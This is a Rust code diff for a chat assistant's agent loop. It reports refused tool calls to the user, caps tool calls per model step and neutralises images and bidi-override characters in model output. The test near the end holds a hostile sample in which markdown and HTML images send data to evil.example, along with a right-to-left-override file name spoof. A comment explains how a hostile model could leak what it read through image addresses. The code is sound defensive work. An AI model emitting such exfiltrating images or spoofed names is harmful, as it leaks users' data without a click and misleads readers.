@@ -48,8 +48,43 @@ pub struct TurnState {
     pub queue: VecDeque<ToolCall>,
     pub steps: u32,
     pub deadline: Instant,
-    /// What only an admin can fix (an API permission the app lacks), said with the answer.
+    /// What the answer must say whatever the model writes.
+    pub remarks: Remarks,
+}
+
+/// What a turn's answer says besides the model's text: the agent's own words, so a model that
+/// hides a refusal or an admin's task cannot keep it from the person.
+#[derive(Debug, Default, Clone)]
+pub struct Remarks {
+    /// What only an admin can fix (an API permission the app lacks).
     pub notes: Vec<String>,
+    /// The calls refused in this turn: the tool's name as the model gave it, and the line for
+    /// the person. A refusal the model put right (the same tool ran later in the turn) is
+    /// dropped: only what stayed refused is said.
+    pub refused: Vec<(String, String)>,
+}
+
+/// Refused calls listed by name in an answer, at most; the rest are counted.
+const REFUSED_LISTED: usize = 5;
+
+impl Remarks {
+    /// A refused call of `tool` (a name the model chose: shown only when it is an identifier),
+    /// `why` in the person's language.
+    fn refused(&mut self, tool: &str, why: &str) {
+        self.refused.push((tool.to_owned(), format!("- `{}`：{why}", tools::id_or_size(tool))));
+    }
+
+    /// `tool` ran: its earlier refusals in this turn were put right.
+    fn ran(&mut self, tool: &str) {
+        self.refused.retain(|(t, _)| t != tool);
+    }
+}
+
+/// A backend's or tool's own words about a refusal, for the person: one line, nothing in it
+/// hidden or able to change the answer's formatting.
+fn quoted(text: &str) -> String {
+    let line: String = visible(text).replace('`', "'").replace(['\n', '\r'], " ").chars().take(200).collect();
+    format!("`{}`", line.trim())
 }
 
 /// A turn paused on a confirmation.
@@ -151,7 +186,7 @@ impl Assistant {
             queue: VecDeque::new(),
             steps: 0,
             deadline: Instant::now() + llm.turn_timeout_ms.get(),
-            notes: Vec::new(),
+            remarks: Remarks::default(),
         };
         self.drive(state, progress).await
     }
@@ -175,15 +210,18 @@ impl Assistant {
                     p.show(&steps_shown);
                 }
                 let checked = match self.check_call(&state.asker, &call) {
-                    Err(refusal) => Err(refusal),
+                    Err((refusal, why)) => {
+                        state.remarks.refused(&call.function.name, &why);
+                        Err(refusal)
+                    }
                     Ok((tool, args)) => {
-                        self.prepare_call(&state.asker, &tool, args, &mut state.notes).await.map(|a| (tool, a))
+                        self.prepare_call(&state.asker, &tool, args, &mut state.remarks).await.map(|a| (tool, a))
                     }
                 };
                 match checked {
                     Err(refusal) => state.messages.push(ChatMessage::tool_result(call.id.clone(), refusal)),
                     Ok((tool, args)) if tool.risk() == Risk::Read => {
-                        let result = self.run_tool(&state.asker, &tool, &call, args, &mut state.notes).await;
+                        let result = self.run_tool(&state.asker, &tool, &call, args, &mut state.remarks).await;
                         state.messages.push(ChatMessage::tool_result(call.id.clone(), result));
                     }
                     Ok((tool, args)) => return self.ask_confirmation(state, tool, call, args).await,
@@ -212,7 +250,7 @@ impl Assistant {
                         let mut text = String::new();
                         llm.stream(&state.messages, &specs, |piece| {
                             text.push_str(piece);
-                            p.show(&no_images(&text));
+                            p.show(&inert(&text));
                         })
                         .await
                     }
@@ -240,9 +278,26 @@ impl Assistant {
                 let text = if text.trim().is_empty() { t!("turn.empty").into_owned() } else { text };
                 return self.finish(state, text).await;
             }
-            state.queue.extend(message.tool_calls.iter().cloned());
-            // Oversized arguments are refused; the history keeps a stand-in, not the bulk.
+            // Calls beyond the step's share are answered, not run: a model cannot make one step
+            // do unbounded work.
             let mut echoed = message.tool_calls;
+            let max = settings.max_calls_per_step as usize;
+            let over = echoed.len().saturating_sub(max);
+            state.queue.extend(echoed.iter().take(max).cloned());
+            let mut refusals = Vec::new();
+            if over > 0 {
+                self.parts.audit.record(
+                    Event::new(Kind::LimitHit, &state.asker.actor, &state.asker.chat)
+                        .reason(format!("{} tool calls in one model step; at most {max} run", echoed.len())),
+                );
+                self.parts.denials.fetch_add(over as u64, std::sync::atomic::Ordering::Relaxed);
+                let line = t!("turn.too_many_calls", asked = echoed.len(), max = max).into_owned();
+                state.remarks.refused.push((String::new(), line));
+                let refusal = format!("refused: at most {max} tool calls run in one step; this one was not run");
+                refusals =
+                    echoed[max..].iter().map(|c| ChatMessage::tool_result(c.id.clone(), refusal.clone())).collect();
+            }
+            // Oversized arguments are refused; the history keeps a stand-in, not the bulk.
             for c in &mut echoed {
                 if c.function.arguments.len() > settings.max_argument_bytes {
                     c.function.arguments = "{}".into();
@@ -255,6 +310,7 @@ impl Assistant {
                 tool_call_id: None,
                 images: Vec::new(),
             });
+            state.messages.extend(refusals);
         }
     }
 
@@ -268,8 +324,16 @@ impl Assistant {
     /// The final answer: kept in the conversation history, cut to size. What only an admin can
     /// fix is added unless the answer already names it.
     async fn finish(&self, state: TurnState, text: String) -> Answer {
-        let mut text = no_images(&text);
-        for note in &state.notes {
+        let mut text = inert(&text);
+        let refused: Vec<&str> = state.remarks.refused.iter().map(|(_, line)| line.as_str()).collect();
+        if !refused.is_empty() {
+            text.push_str(&format!("\n\n{}\n", t!("turn.refused")));
+            text.push_str(&refused[..refused.len().min(REFUSED_LISTED)].join("\n"));
+            if refused.len() > REFUSED_LISTED {
+                text.push_str(&format!("\n{}", t!("turn.refused_more", count = refused.len() - REFUSED_LISTED)));
+            }
+        }
+        for note in &state.remarks.notes {
             let key = note.split('`').nth(1).unwrap_or(note);
             if !text.contains(key) {
                 // The note names what to fix (a permission, a setting) in the backend's terms.
@@ -296,7 +360,7 @@ impl Assistant {
 
     /// Is the call acceptable? The tool and its parsed arguments, or the refusal fed back to the
     /// model. Each outcome is audited.
-    fn check_call(&self, asker: &Asker, call: &ToolCall) -> Result<(Arc<dyn Tool>, Value), String> {
+    fn check_call(&self, asker: &Asker, call: &ToolCall) -> Result<(Arc<dyn Tool>, Value), (String, String)> {
         let name = call.function.name.as_str();
         let audit = &self.parts.audit;
         // The model names the tool: a name that is no identifier is not one of ours, and may be
@@ -304,26 +368,41 @@ impl Assistant {
         let audited_name = tools::id_or_size(name);
         let event = |kind| Event::new(kind, &asker.actor, &asker.chat).tool(audited_name.clone());
         audit.record(event(Kind::ToolRequested));
-        // The reason for the model, and the one the audit trail records.
-        let deny = |reason: String, audited: String, target: String| {
+        // The reason for the model, the one the audit trail records, and the person's.
+        let deny = |reason: String, audited: String, target: String, why: std::borrow::Cow<'_, str>| {
             audit.record(event(Kind::ToolDenied).target(target).reason(audited));
             self.parts.denials.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
-            format!("refused: {reason}")
+            (format!("refused: {reason}"), why.into_owned())
         };
         let Some(tool) = self.parts.tools.get(name).cloned() else {
             let named = |n: &str| format!("there is no tool named `{n}`");
-            return Err(deny(named(&name.chars().take(64).collect::<String>()), named(&audited_name), String::new()));
+            return Err(deny(
+                named(&name.chars().take(64).collect::<String>()),
+                named(&audited_name),
+                String::new(),
+                t!("refused.no_tool"),
+            ));
         };
         if !self.parts.access.granted(&asker.actor, &asker.chat, name) {
             // The audit trail has the asker's id; their display name is theirs to choose.
             let grant = format!("may not use `{name}`; an admin can grant it to one of their roles");
-            return Err(deny(format!("{} {grant}", asker.nick), format!("the asker {grant}"), String::new()));
+            return Err(deny(
+                format!("{} {grant}", asker.nick),
+                format!("the asker {grant}"),
+                String::new(),
+                t!("refused.not_granted"),
+            ));
         }
         let raw = call.function.arguments.trim();
         let max = self.parts.settings.max_argument_bytes;
         if raw.len() > max {
             let reason = format!("the arguments are {} bytes; at most {max} are accepted", raw.len());
-            return Err(deny(reason.clone(), reason, String::new()));
+            return Err(deny(
+                reason.clone(),
+                reason,
+                String::new(),
+                t!("refused.too_big", bytes = raw.len(), max = max),
+            ));
         }
         let args: Value = if raw.is_empty() {
             Value::Object(Default::default())
@@ -333,7 +412,7 @@ impl Assistant {
                 Err(e) => {
                     // serde_json names the line and column, never the text.
                     let reason = format!("the arguments are not valid JSON ({e})");
-                    return Err(deny(reason.clone(), reason, String::new()));
+                    return Err(deny(reason.clone(), reason, String::new(), t!("refused.bad_arguments")));
                 }
             }
         };
@@ -347,17 +426,17 @@ impl Assistant {
                 "an argument name is not a plain identifier ({} bytes); use letters, digits, _ and -",
                 bad.len()
             );
-            return Err(deny(reason.clone(), reason, String::new()));
+            return Err(deny(reason.clone(), reason, String::new(), t!("refused.bad_arguments")));
         }
         if !args.is_object() {
             let reason = "the arguments must be a JSON object".to_owned();
-            return Err(deny(reason.clone(), reason, String::new()));
+            return Err(deny(reason.clone(), reason, String::new(), t!("refused.bad_arguments")));
         }
         let target = tool.target(&args);
         if let Err(e) = schema::validate(tool.parameters(), &args) {
             let reason = format!("invalid arguments: {e}");
             let audited = tools::redact(&reason, &args, &target);
-            return Err(deny(reason, audited, target));
+            return Err(deny(reason, audited, target, t!("refused.bad_arguments")));
         }
         audit.record(event(Kind::ToolAllowed).target(target).outcome(tool.risk().name()));
         Ok((tool, args))
@@ -370,14 +449,14 @@ impl Assistant {
         asker: &Asker,
         tool: &Arc<dyn Tool>,
         args: Value,
-        notes: &mut Vec<String>,
+        remarks: &mut Remarks,
     ) -> Result<Value, String> {
         let target = tool.target(&args);
         let ctx = asker.context(self.parts.settings.utc_offset_minutes);
         let asked = args.clone();
         self.bounded(tool.prepare(&ctx, args))
             .await
-            .map_err(|e| self.tool_error(asker, tool, &asked, &target, e, notes))
+            .map_err(|e| self.tool_error(asker, tool, &asked, &target, e, remarks))
     }
 
     /// A tool's work, bounded by the tool timeout.
@@ -396,17 +475,18 @@ impl Assistant {
         args: &Value,
         target: &str,
         e: ToolError,
-        notes: &mut Vec<String>,
+        remarks: &mut Remarks,
     ) -> String {
         // A refusal (outside the roots, too large) is a denial; anything else a failure.
         let kind = match &e {
-            ToolError::Refused(_) => {
+            ToolError::Refused(why) => {
                 self.parts.denials.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+                remarks.refused(tool.name(), &t!("refused.by_tool", why = quoted(why)));
                 Kind::ToolDenied
             }
             ToolError::NeedsAdmin(note) => {
-                if !notes.contains(note) {
-                    notes.push(note.clone());
+                if !remarks.notes.contains(note) {
+                    remarks.notes.push(note.clone());
                 }
                 Kind::ToolFailed
             }
@@ -430,7 +510,7 @@ impl Assistant {
         tool: &Arc<dyn Tool>,
         call: &ToolCall,
         args: Value,
-        notes: &mut Vec<String>,
+        remarks: &mut Remarks,
     ) -> String {
         let target = tool.target(&args);
         let event = |kind| Event::new(kind, &asker.actor, &asker.chat).tool(tool.name()).target(target.clone());
@@ -440,6 +520,7 @@ impl Assistant {
         match result {
             Ok(outcome) => {
                 self.parts.audit.record(event(Kind::ToolExecuted).outcome("ok"));
+                remarks.ran(tool.name());
                 if let Some((payload, description)) = outcome.undo {
                     let entry = UndoEntry {
                         tool: tool.name().to_owned(),
@@ -454,7 +535,7 @@ impl Assistant {
                 }
                 clip(&outcome.text, self.parts.settings.max_tool_output_bytes)
             }
-            Err(e) => self.tool_error(asker, tool, &asked, &target, e, notes),
+            Err(e) => self.tool_error(asker, tool, &asked, &target, e, remarks),
         }
     }
 
@@ -561,7 +642,7 @@ impl Assistant {
         );
         // The turn's clock restarts: the person may have taken minutes to confirm.
         state.deadline = Instant::now() + self.parts.settings.turn_timeout_ms.get();
-        let result = self.run_tool(asker, &tool, &call, args, &mut state.notes).await;
+        let result = self.run_tool(asker, &tool, &call, args, &mut state.remarks).await;
         state.messages.push(ChatMessage::tool_result(call.id.clone(), result));
         self.drive(state, progress).await
     }
@@ -694,12 +775,18 @@ pub fn human(d: Duration) -> String {
 /// The model's text with no image a reader's DingTalk would fetch by itself: `![…](url)` and
 /// `<img …>` are made plain text. A hostile model could otherwise put what it read into an
 /// image's address and have every reader's app send it out, with no click and no confirmation.
-/// Links stay: they are shown, and leave only when someone chooses to open one.
-pub(super) fn no_images(text: &str) -> String {
-    if !text.contains("![") && !text.to_ascii_lowercase().contains("<img") {
+/// Links stay: they are shown, and leave only when someone chooses to open one. Characters
+/// that reorder the text around them (bidi overrides and isolates, which can make `exe.txt`
+/// read as `txt.exe`) are written out as their code.
+pub(super) fn inert(text: &str) -> String {
+    let reorders = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    if !text.contains("![") && !text.to_ascii_lowercase().contains("<img") && !text.contains(reorders) {
         return text.to_owned();
     }
     let mut out = text.replace("![", "! [");
+    if out.contains(reorders) {
+        out = out.chars().map(|c| if reorders(c) { format!("\\u{{{:x}}}", c as u32) } else { c.to_string() }).collect();
+    }
     while let Some(at) = out.to_ascii_lowercase().find("<img") {
         out.replace_range(at..at + 1, "‹");
     }
@@ -723,6 +810,8 @@ struct PendingRecord {
     queue: Vec<ToolCall>,
     steps: u32,
     notes: Vec<String>,
+    #[serde(default)]
+    refused: Vec<(String, String)>,
     call: ToolCall,
     args: Value,
     /// Wall-clock expiry (milliseconds since the epoch): a restart does not extend it.
@@ -761,7 +850,8 @@ impl PendingRecord {
                 .collect(),
             queue: s.queue.iter().cloned().collect(),
             steps: s.steps,
-            notes: s.notes.clone(),
+            notes: s.remarks.notes.clone(),
+            refused: s.remarks.refused.clone(),
             call: p.call.clone(),
             args: p.args.clone(),
             expires_at_ms: now_ms + p.expires.saturating_duration_since(now).as_millis() as i64,
@@ -797,7 +887,7 @@ impl PendingRecord {
             queue: self.queue.into(),
             steps: self.steps,
             deadline: now,
-            notes: self.notes,
+            remarks: Remarks { notes: self.notes, refused: self.refused },
         };
         let expires = now + Duration::from_millis(left);
         Some((self.code, Pending { state, call: self.call, args: self.args, expires }))
@@ -936,10 +1026,12 @@ mod tests {
     #[test]
     fn no_image_in_an_answer_is_fetched_by_the_readers() {
         let hostile = "Done. ![](https://evil.example/?d=Q3%20revenue) ![x][r]\n[r]: https://evil.example/r <IMG src=https://evil.example/i> [the report](https://intranet/q3)";
-        let shown = no_images(hostile);
+        let shown = inert(hostile);
         assert!(!shown.contains("![") && !shown.to_ascii_lowercase().contains("<img"), "{shown}");
         assert!(shown.contains("[the report](https://intranet/q3)"), "links stay: {shown}");
-        assert_eq!(no_images("plain text, no pictures"), "plain text, no pictures");
+        assert_eq!(inert("plain text, no pictures"), "plain text, no pictures");
+        assert_eq!(inert("报告\u{202e}fdp.exe"), "报告\\u{202e}fdp.exe");
+        assert_eq!(inert("עברית"), "עברית", "right-to-left text itself stays");
     }
 
     #[test]
